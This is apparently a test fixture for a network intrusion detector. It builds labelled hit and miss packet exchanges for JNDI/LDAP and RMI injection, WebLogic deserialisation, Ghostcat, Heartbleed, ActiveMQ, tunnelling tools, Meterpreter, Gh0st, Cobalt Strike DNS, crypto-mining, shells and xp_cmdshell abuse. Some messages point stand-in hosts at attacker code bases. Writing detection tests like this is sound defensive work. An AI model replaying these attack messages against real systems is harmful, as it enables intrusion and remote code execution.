/** Exchanges over TCP and UDP for `raw.mjs`: messages as the protocols lay them out, with payloads that do nothing. */
import { noise } from './answers.mjs';
import { serialized } from './requests.mjs';
import windows from './raw-windows.mjs';

const b = (...parts) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Array.isArray(p) ? Buffer.from(p) : p)));
const hex = (s) => Buffer.from(s.replaceAll(' ', ''), 'hex');
const c = (...parts) => ['c', b(...parts)];
const s = (...parts) => ['s', b(...parts)];
/** An infected host calls out. */
const outward = { client: '10.42.3.57', server: '198.51.100.23' };
const of = (folder, port, defaults = {}) => ({
  hit: (name, verdict, made, turns, more) => ({ file: `${folder}/${name}.pcap`, verdict, made: `Messages between stand-ins; ${made}`, port, turns, ...defaults, ...more }),
  miss: (name, made, turns, more) => ({ file: `${folder}/miss-${name}.pcap`, verdict: 'miss', made: `Messages between stand-ins; ${made}`, port, turns, client: '10.42.3.57', ...more }),
});

// --- Java
const ber = (tag, ...parts) => { const body = b(...parts); return b([tag], body.length < 128 ? [body.length] : [0x82, body.length >> 8, body.length & 255], body); };
const search = (base, filter = ber(0x87, 'objectClass'), deref = 3) => ber(0x30, [2, 1, 2], ber(0x63, ber(4, base), [10, 1, 0, 10, 1, deref, 2, 1, 0, 2, 1, 0, 1, 1, 0], filter, ber(0x30)));
const attribute = (name, ...values) => ber(0x30, ber(4, name), ber(0x31, ...values.map((v) => ber(4, v))));
const bind = [c(ber(0x30, [2, 1, 1], ber(0x60, [2, 1, 3], ber(4), ber(0x80)))), s(ber(0x30, [2, 1, 1], ber(0x61, [10, 1, 0], ber(4), ber(4))))];
const done = ber(0x30, [2, 1, 2], ber(0x65, [10, 1, 0], ber(4), ber(4)));
const entry = (dn, ...attributes) => ber(0x30, [2, 1, 2], ber(0x64, ber(4, dn), ber(0x30, ...attributes)));
const jl = of('java/jndi-ldap-reference', 1389, outward);
const ldap = [
  jl.hit('factory', 'succeeded', 'look-up by JNDI, a reference with code base and factory', [...bind, c(search('Exploit')), s(entry('Exploit', attribute('javaClassName', 'foo'), attribute('javaCodeBase', 'http://198.51.100.23:8888/'), attribute('objectClass', 'javaNamingReference'), attribute('javaFactory', 'Exploit')), done)]),
  jl.hit('serialized', 'succeeded', 'a serialised object as the answer', [...bind, c(search('Basic/Command/Base64/aWQ=')), s(entry('Basic', attribute('javaClassName', 'java.lang.String'), attribute('javaSerializedData', serialized('java.util.PriorityQueue'))), done)]),
  jl.miss('directory', 'an application reads the directory', [...bind, c(search('uid=li,ou=people,dc=example,dc=com', ber(0x87, 'objectClass'), 3)), s(entry('uid=li,ou=people,dc=example,dc=com', attribute('cn', 'li'), attribute('description', 'javaCodeBase')), done)], { port: 389 }),
];
const jrmi = [c('JRMI\0\x02K'), s('N\0\x0a10.42.3.57\0\0\xb5\x12'), c('\0\x0910.42.3.5\0\0\0\0')];
const lookup = c('P', hex('aced000577220000000000000000000000000000000000000000000000000002'), hex('44154dc9d4e63bdf'), 't\0\x07Exploit');
const jr = of('java/jndi-rmi-reference', 1099, outward);
const rmi = [
  jr.hit('wrapper', 'succeeded', 'a reference wrapper with a factory', [...jrmi, lookup, s('Q', serialized('com.sun.jndi.rmi.registry.ReferenceWrapper_Stub', 'javax.naming.Reference'), 'http://198.51.100.23:8888/')]),
  jr.hit('listener', 'succeeded', 'a gadget chain in the return', [...jrmi, lookup, s('Q', serialized('javax.management.BadAttributeValueExpException', 'org.apache.commons.collections.map.LazyMap'))]),
  jr.miss('stub', 'an ordinary remote object', [...jrmi, lookup, s('Q', serialized('java.rmi.server.RemoteObject', 'com.example.erp.StockService'))], { port: 1099 }),
];
const t3 = [c('t3 12.2.1\nAS:255\nHL:19\nMS:10000000\n\n'), s('HELO:12.2.1.3.0.false\nAS:2048\nHL:19\n\n')];
const frame = (...parts) => { const body = b(hex('016501ffffffffffffffff0000006a0000ea600000001900937b484a56fa4a777666f581daa4f5b90e2aebfc607499b4027973720078720178720278700000000a000000030000000000000006007070707070700000000a000000030000000000000006007006fe010000'), ...parts); const head = Buffer.alloc(4); head.writeUInt32BE(body.length + 4); return b(head, body); };
const wt = of('java/weblogic-t3-deserialization', 7001);
const jrmp = serialized('java.rmi.server.UnicastRemoteObject', 'sun.rmi.server.UnicastRef');
const t3s = [
  wt.hit('commons', 'succeeded', 'class names of a public chain over T3, the cast error', [...t3, c(frame(serialized('sun.reflect.annotation.AnnotationInvocationHandler', 'org.apache.commons.collections.map.LazyMap'))), s(frame('java.lang.ClassCastException: cannot be cast to weblogic.rjvm.ClassTableEntry'))]),
  wt.hit('filter', 'attempted', 'the deserialisation filter refuses', [...t3, c(frame(jrmp)), s(frame('java.io.InvalidClassException: filter status: REJECTED'))]),
  wt.hit('registry', 'attempted', 'a chain to an RMI registry', [c('JRMI\0\x02K'), s('N\0\x0a10.42.3.57\0\0\xb5\x12'), c('P', serialized('java.util.PriorityQueue', 'org.apache.commons.beanutils.BeanComparator')), s('Q')], { port: 1099 }),
  wt.miss('cluster', 'the classes of WebLogic itself', [...t3, c(frame(serialized('weblogic.rjvm.ClassTableEntry', 'weblogic.common.internal.PackageInfo', 'java.util.Vector'))), s(frame('ok'))]),
];
const giop = (operation, ...parts) => { const body = b(hex('0000000000000005 03000000 00000000'), [0, 0, 0, 8], 'NameServ', [0, 0, 0, operation.length + 1], operation, '\0', ...parts); const size = Buffer.alloc(4); size.writeUInt32BE(body.length); return b('GIOP\x01\x02\0\0', size, body); };
const wi = of('java/weblogic-iiop', 7001);
const iiop = [
  wi.hit('rebind', 'succeeded', 'a transaction manager with a foreign address, the naming error', [c(giop('rebind_any', hex('7fffff02'), 'RMI:com.bea.core.repackaged.springframework.transaction.jta.JtaTransactionManager:0D3048E07B1D3B7B:4EF3ECFBB628982F', '\0\0\0\x20rmi://203.0.113.66:1099/Exploit\0')), s(giop('reply', 'javax.naming.NamingException weblogic/jndi'))]),
  wi.miss('bind', 'an ordinary remote interface', [c(giop('rebind_any', 'RMI:com.example.erp.StockHome:0000000000000000')), s(giop('reply', 'ok'))]),
];
const ajpString = (v) => b([v.length >> 8, v.length & 255], v, '\0');
const ajp = (uri, ...attributes) => { const body = b([2, 2], ajpString('HTTP/1.1'), ajpString(uri), ajpString('203.0.113.66'), hex('ffff'), ajpString('10.42.1.10'), [0, 80, 0, 0, 0], attributes.length ? b(...attributes.map(([n, v]) => b([10], ajpString(n), ajpString(v)))) : '', [255]); return b(hex('1234'), [body.length >> 8, body.length & 255], body); };
const packet = (...parts) => { const body = b(...parts); return b('AB', [body.length >> 8, body.length & 255], body); };
const include = (path) => [['javax.servlet.include.request_uri', '/'], ['javax.servlet.include.path_info', path], ['javax.servlet.include.servlet_path', '/']];
const page = (status, text) => s(packet([4, status >> 8, status & 255], ajpString(status === 200 ? 'OK' : 'Forbidden'), [0, 0]), packet([3, text.length >> 8, text.length & 255], text, '\0'), packet([5, 1]));
const gc = of('java/ghostcat', 8009);
const ghostcat = [
  gc.hit('web-xml', 'succeeded', 'WEB-INF/web.xml in the reply', [c(ajp('/asdf', ...include('WEB-INF/web.xml'))), page(200, '<?xml version="1.0" encoding="UTF-8"?><web-app><display-name>Welcome to Tomcat</display-name></web-app>')]),
  gc.hit('refused', 'attempted', '403 of a repaired server', [c(ajp('/asdf', ...include('WEB-INF/web.xml'))), page(403, 'Forbidden')]),
  gc.miss('front-end', 'a web server in front of Tomcat', [c(ajp('/app/index.jsp', ['AJP_REMOTE_PORT', '52110'])), page(200, '<html>ok</html>')]),
];

// --- tunnels
const login = JSON.stringify({ version: '0.28.2', hostname: '', os: 'linux', arch: 'amd64', user: '', privilege_key: '8d8c0e2b9f3b1a7c2d5e6f7081920a3b', timestamp: 1571385600, run_id: '', pool_count: 1 });
const message = (type, json) => b(type, [0, 0, 0, 0, 0, 0, json.length >> 8, json.length & 255], json);
const mux = (n) => b(hex('000000010000000100000000'), hex('00000000 00000001'), [0, 0, n >> 8, n & 255]);
const fr = of('tunnel/frp', 7000, outward);
const frp = [
  fr.hit('login', 'compromised', 'log-in by frp 0.28, accepted', [c(message('o', login)), s(message('1', JSON.stringify({ version: '0.28.2', run_id: '4a1f6c0b5d9e2a7b', server_udp_port: 0, error: '' }))), c(noise(80, 3))]),
  fr.hit('mux', 'compromised', 'log-in inside the multiplexer', [c(mux(login.length + 9), message('o', login)), s(mux(90), message('1', JSON.stringify({ version: '0.28.2', run_id: '4a1f6c0b5d9e2a7b' })))]),
  fr.hit('refused', 'attempted', 'wrong token', [c(message('o', login)), s(message('1', JSON.stringify({ version: '0.28.2', run_id: '', server_udp_port: 0, error: 'authorization failed' })))]),
  fr.miss('api', 'versions and time stamps in another protocol', [c('{"version":"1.0.0","timestamp":1571385600,"run_id":"x"}\n'), s('{"version":"1.0.0","run_id":"x"}\n')]),
];
const hello = b(hex('16030100c8010000c40303'), noise(32, 5), noise(161, 6));
const ft = of('tunnel/frp-tls', 7000, outward);
const frpTls = [
  ft.hit('byte', 'compromised', 'the byte alone, then the handshake', [c('\x17'), c(hello), s(hex('160303004a020000460303'), noise(70, 8))]),
  ft.miss('handshake', 'ordinary handshake, application data in the middle of a connection', [c(hello), s(hex('160303004a020000460303'), noise(70, 8)), c(hex('1703030020'), noise(32, 3))], { port: 443 }),
];
const np = of('tunnel/nps', 8024, outward);
const nps = [
  np.hit('handshake', 'compromised', 'TST with its version, the digest of the server', [c('TST', hex('06000000'), '0.26.0', hex('06000000'), '0.26.8'), s('0d5e5b0a1f1f8ac1d6c3a7f0b5c2e491'), c(noise(32, 2).toString('hex'), 'main')]),
  np.miss('test', 'a text that begins alike', [c('TST 0.26.0\r\n'), s('ok\r\n')]),
];
const vn = of('tunnel/venom', 9999, outward);
const venom = [
  vn.hit('handshake', 'compromised', 'greeting, then packets of the protocol', [c('ABCDEFGH'), s('ABCDEFGH'), c('VCMD', noise(80, 1)), s('VCMD', noise(80, 2))]),
  vn.miss('alphabet', 'an echo of the alphabet', [c('ABCDEFGHIJ\r\n'), s('ABCDEFGHIJ\r\n')], { port: 7 }),
];
const rs = of('tunnel/reverse-socks', 8888, outward);
const reverse = [
  rs.hit('negotiation', 'compromised', 'the outside asks the host for a connection to 10.42.1.20', [s(hex('050100')), c(hex('0500')), s(hex('050100010a2a01140d3d')), c(hex('05000001000000000000')), s('GET / HTTP/1.0\r\n\r\n')]),
  rs.miss('proxy', 'a client of an ordinary proxy', [c(hex('050100')), s(hex('0500')), c(hex('05010001c6336417 0050')), s(hex('05000001000000000000'))], { port: 1080 }),
];
const so = of('tunnel/socks-odd-port', 8899);
const socks = [
  so.hit('connect', 'attempted', 'a connection through the proxy', [c(hex('050100')), s(hex('0500')), c(hex('050100010a2a0114 0d3d')), s(hex('05000001000000000000')), c(hex('030000130ee000000000000100080003000000'))]),
  so.hit('agreed', 'attempted', 'agreed and left', [c(hex('05020002')), s(hex('05ff'))].map((turn, i) => (i === 1 ? s(hex('0500')) : turn))),
  so.miss('port', 'the usual port', [c(hex('050100')), s(hex('0500')), c(hex('05010001c63364170050')), s(hex('05000001000000000000'))], { port: 1080 }),
];
const ro = of('tunnel/rdp-odd-port', 13389);
const rdpRequest = c(hex('0300002b26e00000000000'), 'Cookie: mstshash=admin\r\n', hex('0100080003000000'));
const rdpConfirm = s(hex('030000130ed000001234000209080002000000'));
const rdp = [ro.hit('forwarded', 'attempted', 'negotiation on port 13389', [rdpRequest, rdpConfirm]), ro.miss('usual', 'negotiation on port 3389', [rdpRequest, rdpConfirm], { port: 3389 })];

// --- implants
const ms = of('malware/meterpreter-tcp-stage', 4444, outward);
const size = (n) => { const o = Buffer.alloc(4); o.writeUInt32LE(n); return o; };
const stage = [
  ms.hit('x64', 'compromised', 'head of the 64-bit library behind its length', [s(size(201308), hex('4d5a4152554889e54883ec20'), noise(3000, 2))]),
  ms.hit('x86', 'compromised', 'head of the 32-bit library behind its length', [s(size(176195), hex('4d5ae8000000005b52455589e5'), noise(3000, 3))]),
  ms.miss('transfer', 'a program behind its length, text', [s(size(65536), hex('4d5a90000300000004000000ffff0000'), noise(900, 4))], { port: 9000 }),
];
const gh = of('malware/gh0st', 8000, outward);
const packed = (magic, n, seed) => b(magic, size(n + 18), size(n * 3), hex('789c'), noise(n, seed));
const ghost = [
  gh.hit('log-in', 'compromised', 'host data, then a command', [c(packed('Gh0st', 180, 3)), s(packed('Gh0st', 20, 5))]),
  gh.hit('renamed', 'compromised', 'a variant with another mark', [c(packed('KrisR', 150, 3)), s(packed('KrisR', 20, 5))]),
  gh.miss('zlib', 'zlib data of other protocols', [c(hex('00000040'), hex('789c'), noise(64, 3)), s('Hello, this is a text about Gh0st\r\n')]),
];
const mn = of('malware/mining-stratum', 3333, outward);
const mining = [
  mn.hit('bitcoin', 'compromised', 'subscription and work', [c('{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.0"]}\n'), s('{"id":1,"result":[[["mining.notify","ae6812eb"]],"08000002",4],"error":null}\n'), c('{"id": 2, "method": "mining.authorize", "params": ["w", "x"]}\n'), s('{"id":2,"result":true,"error":null}\n')]),
  mn.hit('monero', 'compromised', 'log-in of a Monero miner and its job', [c('{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD","pass":"x","agent":"XMRig/2.14.1","algo":["cn/r"]}}\n'), s('{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1f","job":{"blob":"0a0a"},"status":"OK"}}\n')]),
  mn.hit('refused', 'attempted', 'the pool refuses', [c('{"id":1,"method":"eth_submitLogin","params":["0x00"]}\n'), s('{"id":1,"error":{"code":-1,"message":"Invalid login"}}\n')]),
  mn.miss('json-rpc', 'another JSON interface', [c('{"id":1,"method":"login","params":{"user":"li"}}\n'), s('{"id":1,"result":true}\n')]),
];
const bs = of('shell/bind-shell', 4444);
const bindShell = [
  bs.hit('cmd', 'compromised', 'cmd.exe on a port', [s('Microsoft Windows [Version 6.1.7601]\r\nCopyright (c) 2009 Microsoft Corporation.  All rights reserved.\r\n\r\nC:\\Windows\\system32>'), c('whoami\r\n'), s('whoami\r\nnt authority\\system\r\n')]),
  bs.miss('telnet', 'telnet, and a banner', [s('Microsoft Windows [Version 6.1.7601]\r\nC:\\Users\\li>')], { port: 23 }),
];
const rv = of('shell/reverse-shell-prompt', 4444, outward);
const prompts = [
  rv.hit('bash-prompt', 'compromised', 'prompt of a shell without a terminal\'s name', [c('bash-4.2$ '), s('id\n'), c('id\nuid=48(apache) gid=48(apache)\nbash-4.2$ ')]),
  rv.hit('windows', 'compromised', 'cmd.exe, then a shell of PowerShell', [c('Microsoft Windows [Version 10.0.17763.737]\r\n(c) 2018 Microsoft Corporation. All rights reserved.\r\n\r\nC:\\inetpub\\wwwroot>'), s('whoami\r\n'), c('whoami\r\niis apppool\\defaultapppool\r\n')]),
  rv.hit('whoami', 'compromised', 'no prompt: the output of whoami alone', [s('whoami\n'), c('www-data\n'), s('id\n'), c('uid=33(www-data) gid=33(www-data) groups=33(www-data)\n')]),
  rv.miss('chat', 'a line protocol', [c('hello\n'), s('who are you\n'), c('root cause analysis\n')]),
];
const name = (host) => b(...host.split('.').map((l) => b([l.length], l)), [0]);
const query = (host) => b(hex('1a2b01000001000000000000'), name(host), hex('00010001'));
const reply = (host, ip) => b(hex('1a2b8580000100010000 0000'), name(host), hex('00010001c00c00010001000000010004'), ip.split('.').map(Number));
const absent = (host) => b(hex('1a2b81830001000000000000'), name(host), hex('00010001'));
const dns = (folder) => of(folder, 53, { ...outward, udp: true });
const cd = dns('malware/cobalt-strike-dns');
const beacon = [
  cd.hit('tasks', 'compromised', 'look-ups for tasks and data', ['www6.1a2b3c4d1.2f3e4d5c.ns.example.net', 'api.06c2a1b2f.2f3e4d5c.ns.example.net', 'post.140.0c8f2a11c0.2f3e4d5c.ns.example.net'].flatMap((h) => [c(query(h)), s(reply(h, '0.0.0.0'))])),
  cd.hit('stager', 'compromised', 'stage in TXT names', [c(query('aaa.stage.16842759.ns.example.net')), s(reply('aaa.stage.16842759.ns.example.net', '1.2.3.4'))]),
  cd.miss('names', 'content networks and clouds', ['www6.example.com', 'cdn.e1a2b3c4d5f60718.edge.example.net', 'api.weather.example.org', 'post.example.net', 'stage.example.net'].flatMap((h) => [c(query(h)), s(reply(h, '192.0.2.7'))]), { udp: true }),
];
const ob = dns('malware/out-of-band-domain');
const oob = [
  ob.hit('dnslog', 'succeeded', 'look-ups of three platforms', ['x1.ab12cd.dnslog.cn', 'root.8f2a.ceye.io', 'q1w2e3.burpcollaborator.net'].flatMap((h) => [c(query(h)), s(reply(h, '127.0.0.1'))])),
  ob.hit('filtered', 'attempted', 'the resolver has no such name', [c(query('c7n1.oast.fun')), s(absent('c7n1.oast.fun'))]),
  ob.miss('names', 'names that contain the words', ['dnslog.cn.example.com', 'myceye.io.example.net', 'www.example.cn'].flatMap((h) => [c(query(h)), s(reply(h, '192.0.2.7'))]), { udp: true }),
];

// --- OpenSSL, ActiveMQ
const clientHello = c(hex('16030200dc010000d8030253435b909d9b720bbc0cbc2b92a84897cfbd3904cc160a8503909f770433d4de000066c014'), noise(175, 5));
const serverHello = s(hex('160302003a020000360302'), noise(51, 6), hex('16030200040e000000'));
const hb = of('product/heartbleed', 443);
const heartbeat = [
  hb.hit('leak', 'succeeded', 'hello, a heartbeat that claims 16 KiB, and a long answer', [clientHello, serverHello, c(hex('1803020003014000')), s(hex('1803024000024000'), noise(1200, 7))]),
  hb.hit('repaired', 'attempted', 'the same, answered by an alert', [clientHello, serverHello, c(hex('1803020003014000')), s(hex('15030200020228'))]),
  hb.miss('heartbeat', 'a heartbeat of the length that it says', [clientHello, serverHello, c(hex('1803020023010010'), noise(32, 8)), s(hex('1803020023020010'), noise(32, 8))]),
];
const wire = (...parts) => { const body = b(...parts); const size = Buffer.alloc(4); size.writeUInt32BE(body.length); return b(size, body); };
const wireText = (v) => b([1, v.length >> 8, v.length & 255], v);
const greeting = s(wire([1], 'ActiveMQ', hex('0000000c0100000100'), noise(40, 9)));
const am = of('java/activemq-openwire', 61616);
const openwire = [
  am.hit('context', 'attempted', 'the broker\'s greeting, then an exception that names a context', [greeting, c(wire([0x1f], hex('00000000000000000001'), [1], wireText('org.springframework.context.support.ClassPathXmlApplicationContext'), wireText('http://203.0.113.66:8000/poc.xml')))]),
  am.miss('messages', 'a client that sends a text about such a context', [greeting, c(wire([0x1c], hex('0000000a'), wireText('see org.springframework.context.support.ClassPathXmlApplicationContext and http://docs.example.com/'))), s(wire([0x1e], hex('00000001')))]),
];

// --- SQL Server
const utf16 = (t) => Buffer.from(t, 'utf16le');
const tds = (type, ...parts) => { const body = b(...parts); return b([type, 1, (body.length + 8) >> 8, (body.length + 8) & 255, 0, 0, 1, 0], body); };
const prelogin = [c(tds(0x12, hex('00000b00060100110001ff'), hex('080001550000'), [2])), s(tds(4, hex('00000b00060100110001ff'), hex('0e0007d00000'), [2]))];
const batch = (sql) => c(tds(1, hex('16000000120000000200000000000000000001000000'), utf16(sql)));
const ok = s(tds(4, hex('fd000000000000000000000000')));
const mq = of('database/mssql-command', 1433);
const mssql = [
  mq.hit('xp-cmdshell', 'succeeded', 'options switched on, then a command', [...prelogin, batch("EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;"), ok, batch("exec master..xp_cmdshell 'whoami'"), s(tds(4, hex('810100 00000000 2100e7ff000904d00034 06'), utf16('output'), hex('d1 2600'), utf16('nt authority\\system'), hex('fd1000c1000100000000000000')))]),
  mq.hit('disabled', 'attempted', 'the component is turned off', [...prelogin, batch("exec xp_cmdshell 'dir'"), s(tds(4, hex('aa'), utf16("SQL Server blocked access to procedure 'sys.xp_cmdshell'")))]),
  mq.miss('report', 'a report', [...prelogin, batch('SELECT name, total FROM orders WHERE day = 20191018'), ok]),
];
export default [...heartbeat, ...openwire, ...ldap, ...rmi, ...t3s, ...iiop, ...ghostcat, ...frp, ...frpTls, ...nps, ...venom, ...reverse, ...socks, ...rdp, ...stage, ...ghost, ...mining, ...bindShell, ...prompts, ...beacon, ...oob, ...mssql, ...windows];
